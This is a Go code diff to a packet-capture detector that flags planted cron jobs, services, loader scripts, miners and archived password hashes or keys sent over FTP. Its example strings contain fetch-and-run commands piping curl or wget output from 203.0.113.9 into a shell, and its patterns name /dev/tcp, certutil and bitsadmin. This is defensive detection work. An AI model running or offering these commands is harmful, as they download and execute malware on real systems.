@@ -22,6 +22,7 @@ type plant struct {
 	parts []part
 	// fetched says that a download of it counts, too, because devices fetch it to run it.
 	fetched bool
+	where   place
 	// source says who describes it, and example is such a file.
 	source, example string
 }
@@ -111,13 +112,13 @@ var serverPlants = []plant{
 			`|<add\b[^>]*\bpath="[^">]*`+picturesEnd+`"[^>]*\bscriptprocessor=|<add\b[^>]*\bscriptprocessor=[^>]*\bpath="[^">]*`+picturesEnd,
 			"addtype", "handler", "pend_file")}},
 
-	{what: "a job that fetches a program and runs it", kind: loot, source: atJobs,
+	{what: "a job that fetches a program and runs it", kind: loot, where: anywhere, source: atJobs,
 		example: "* * * * * root curl -s http://203.0.113.9/x.sh|sh\n",
 		parts:   []part{like(schedule+`[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "curl", "wget", "lynx ", "base64 -", "/dev/tcp/")}},
 	{what: "a job that runs a program in a folder that everybody may write", kind: doubtful, source: atJobs,
 		example: "@reboot root /dev/shm/.x/kworker\n",
 		parts:   []part{like(schedule+`[ \t]*(root[ \t]+)?(/(usr/)?bin/(ba|da)?sh +)?`+scratch, "/tmp/", "/dev/shm/")}},
-	{what: "a service that fetches a program and runs it", kind: loot, source: atBoot,
+	{what: "a service that fetches a program and runs it", kind: loot, where: anywhere, source: atBoot,
 		example: "[Service]\nExecStart=/bin/bash -c 'curl -s http://203.0.113.9/x.sh | bash'\n",
 		parts:   []part{like(`(?m)^exec(start|stop|reload)(pre|post)?=[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "execst", "execreload")}},
 	{what: "a service in a folder that everybody may write", kind: doubtful, source: atBoot,
@@ -130,7 +131,7 @@ var serverPlants = []plant{
 	{what: "a script that fetches a program for each kind of processor and runs it", kind: loot, fetched: true, source: atLoaders,
 		example: strings.Repeat("cd /tmp; wget http://203.0.113.9/mips; chmod 777 mips; ./mips; rm -rf mips\n", 3),
 		parts:   []part{like(`([^\n]*(wget|curl|tftp|ftpget)\b[^\n]{0,200}(;|&&|\n)\s*chmod +(\+x|a\+x|[0-7]*7[0-7]*) +[^\n]{0,80}(;|&&|\n)\s*(sh |\./)[^\n]*\n+(rm [^\n]*\n+)?){3}`, "chmod")}},
-	{what: "a script that runs what it fetches from a host without a name", kind: doubtful, fetched: true, source: atLoaders,
+	{what: "a script that runs what it fetches from a host without a name", kind: doubtful, fetched: true, where: anywhere, source: atLoaders,
 		example: "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | bash\n",
 		parts:   []part{{[]string{"curl", "wget", ".download", "certutil", "bitsadmin"}, fetchesFromAddress}}},
 	{what: "a command of PowerShell that hides its window and its text", kind: loot, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
@@ -215,9 +216,16 @@ func fetchesFromAddress(text []byte) bool {
 
 // planted are the files that intruders plant, by data connection.
 type planted struct {
-	texts map[int][]int // the parts of each plant that were found, as bits, by connection
+	files map[int]*plantedFile
 	found map[int]content
 	text  []byte // a buffer
+}
+
+// A plantedFile is what was seen of a file.
+type plantedFile struct {
+	parts   []int // those of each plant that were found, as bits; nil before the first text
+	binary  bool
+	archive *archive // nil for other files
 }
 
 // packet takes the next packet of a data connection. A file is a text or not by its first bytes; parts of
@@ -227,35 +235,59 @@ func (all *planted) packet(p *capture.Packet) {
 	if t == nil || isListing(t.Command) || p.Segment.DataSeq() >= maxPage {
 		return
 	}
-	if p.Segment.DataSeq() == 1 && isScript(data) && len(all.texts) < maxContents {
-		all.texts[id] = make([]int, len(plants))
+	if p.Segment.DataSeq() == 1 && len(all.files) < maxContents {
+		all.files[id] = &plantedFile{binary: !isScript(data), archive: archiveOf(data)}
 	}
-	parts := all.texts[id]
-	if parts == nil {
+	f := all.files[id]
+	if f == nil {
+		return
+	}
+	if f.binary {
 		if t.Sender() == ftp.Client && bytes.Contains(data, toPool) {
 			all.note(p, content{kind: doubtful, what: "a miner (" + atMiners + ")"})
 		}
+		all.text = appendTexts(all.text[:0], data)
+	} else {
+		all.text = appendLower(all.text[:0], bytes.ReplaceAll(data, []byte{0}, nil)) // UTF-16 has zeros
+	}
+	if f.archive != nil {
+		all.archived(p, f.archive)
+	}
+	if len(all.text) == 0 {
 		return
 	}
-	all.text = appendLower(all.text[:0], bytes.ReplaceAll(data, []byte{0}, nil)) // UTF-16 has zeros
+	if f.parts == nil {
+		f.parts = make([]int, len(plants))
+	}
 	for i, plant := range plants {
-		if t.Sender() != ftp.Client && !plant.fetched {
+		if t.Sender() != ftp.Client && !plant.fetched || !plant.where.covers(f.binary) {
 			continue
 		}
 		for j, part := range plant.parts {
-			if (j == 0 || part.has == nil || parts[i]&1 != 0) && parts[i]&(1<<j) == 0 && part.in(all.text) {
-				parts[i] |= 1 << j
+			if (j == 0 || part.has == nil || f.parts[i]&1 != 0) && f.parts[i]&(1<<j) == 0 && part.in(all.text) {
+				f.parts[i] |= 1 << j
 			}
 		}
-		if parts[i] == 1<<len(plant.parts)-1 {
+		if f.parts[i] == 1<<len(plant.parts)-1 {
 			all.note(p, content{kind: plant.kind, what: plant.what + " (" + plant.source + ")", fetched: plant.fetched})
 		}
 	}
 }
 
+// archived looks at a packet of an archive.
+func (all *planted) archived(p *capture.Packet, a *archive) {
+	a.count += bytes.Count(p.TCP.Payload, a.member)
+	switch {
+	case stolenHashes().Match(all.text):
+		all.note(p, content{kind: secret, what: "the passwords of accounts, in an archive", in: a})
+	case secretKey().Match(bytes.ToUpper(all.text)):
+		all.note(p, content{kind: privateKey, what: "a private key, in an archive", in: a})
+	}
+}
+
 // note remembers the worst of what a connection shows.
 func (all *planted) note(p *capture.Packet, c content) {
-	if before, known := all.found[p.Connection.ID]; known && !(c.kind == loot && before.kind != loot) || len(all.found) >= maxContents {
+	if before, known := all.found[p.Connection.ID]; known && !(isWorst(c.kind) && !isWorst(before.kind)) || len(all.found) >= maxContents {
 		return
 	}
 	if c.packet = p.Number; p.ChecksumWrong() {
@@ -263,6 +295,8 @@ func (all *planted) note(p *capture.Packet, c content) {
 	}
 	all.found[p.Connection.ID] = c
 }
+
+func isWorst(k contentKind) bool { return k == loot || k == secret }
 
 // shortcut is how a shortcut of Windows begins.
 const shortcut = "L\x00\x00\x00\x01\x14\x02\x00"
